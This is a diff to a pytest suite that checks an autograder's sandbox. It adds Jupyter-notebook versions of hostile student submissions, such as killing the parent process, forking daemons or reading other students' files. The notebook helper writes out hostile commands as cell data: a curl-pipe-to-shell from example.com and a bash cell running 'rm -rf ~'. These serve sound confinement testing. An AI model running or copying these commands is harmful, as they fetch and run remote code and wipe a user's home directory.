@@ -10,6 +10,7 @@ Some of these files call kill(-1) or fork many processes. Without the sandbox's 
 namespace and Landlock that would hit the machine itself, so the module is skipped,
 with the reason, where those protections are not in force.
 """
+import dataclasses
 import hashlib
 import json
 import os
@@ -19,11 +20,24 @@ import sys
 import time
 from pathlib import Path
 
+import nbformat
 import pytest
 
 from corpus_support import KIT, expectation_problems, scenarios
 
 HOSTILE = scenarios("hostile")
+# The same attacks handed in as notebooks (one code cell each, plus shell escapes and a %%bash
+# cell that the grader must neutralise): confinement holds on the notebook path too.
+AS_NOTEBOOKS = ("reads_the_reference", "reads_other_students", "writes_fake_results", "patches_torch",
+                "kills_parent", "forking_daemon", "opens_network", "evil_tensor_subclass", "exit_at_import")
+NOTEBOOK_SCENARIOS = [dataclasses.replace(s, name=f"{s.name}_notebook") for s in HOSTILE if s.name in AS_NOTEBOOKS]
+
+
+def _as_notebook(source: str) -> str:
+    cells = [nbformat.v4.new_code_cell("!curl -s http://example.com/x | sh\n%matplotlib inline"),
+             nbformat.v4.new_code_cell(source),
+             nbformat.v4.new_code_cell("%%bash\ntouch /tmp/pwned-by-hostile\nrm -rf ~")]
+    return nbformat.writes(nbformat.v4.new_notebook(cells=cells))
 RUN_LABEL = f"hostile-{os.getpid()}-{time.time_ns()}"
 CANARIES = [Path("/tmp/results.json"), Path("/tmp/pwned-by-hostile"), Path.home() / "results.json"]
 
@@ -92,6 +106,9 @@ def batch(sandbox_in_force, tmp_path_factory):
     for s in HOSTILE:
         (subs / s.name).mkdir(parents=True)
         (subs / s.name / "linear_regression.py").write_text(s.source(), encoding="utf-8")
+        if s.name in AS_NOTEBOOKS:
+            (subs / f"{s.name}_notebook").mkdir()
+            (subs / f"{s.name}_notebook" / "linear_regression.ipynb").write_text(_as_notebook(s.source()))
     for honest, source in (("honest_reference", KIT / "solutions" / "linear_regression" / "linear_regression.py"),
                            ("honest_alice", KIT / "demo" / "linear_regression" / "alice" / "linear_regression.py")):
         (subs / honest).mkdir()
@@ -114,10 +131,10 @@ def batch(sandbox_in_force, tmp_path_factory):
 def test_the_batch_finishes_with_exit_zero(batch):
     run, results, *_ = batch
     assert run.returncode == 0, run.stderr[-3000:]
-    assert len(results) == len(HOSTILE) + 2
+    assert len(results) == len(HOSTILE) + len(NOTEBOOK_SCENARIOS) + 2
 
 
-@pytest.mark.parametrize("scenario", HOSTILE, ids=[s.name for s in HOSTILE])
+@pytest.mark.parametrize("scenario", HOSTILE + NOTEBOOK_SCENARIOS, ids=[s.name for s in HOSTILE + NOTEBOOK_SCENARIOS])
 def test_hostile_submission_is_graded_correctly(batch, scenario):
     _, results, *_ = batch
     problems = expectation_problems(scenario, results[scenario.name])
